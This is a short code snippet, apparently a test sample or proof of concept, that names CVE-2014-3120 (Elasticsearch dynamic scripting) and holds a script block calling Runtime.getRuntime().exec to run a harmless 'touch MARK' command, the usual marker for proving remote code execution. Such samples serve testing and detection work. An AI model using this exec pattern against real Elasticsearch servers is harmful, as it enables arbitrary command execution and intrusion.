// CVE-2014-3120 (Elasticsearch: dynamic scripts)
// Runtime.getRuntime().exec
event X {
    on { 'a' }
    as {
        Runtime.getRuntime().exec(['touch', 'MARK'] as String[]).waitFor()
    }
}
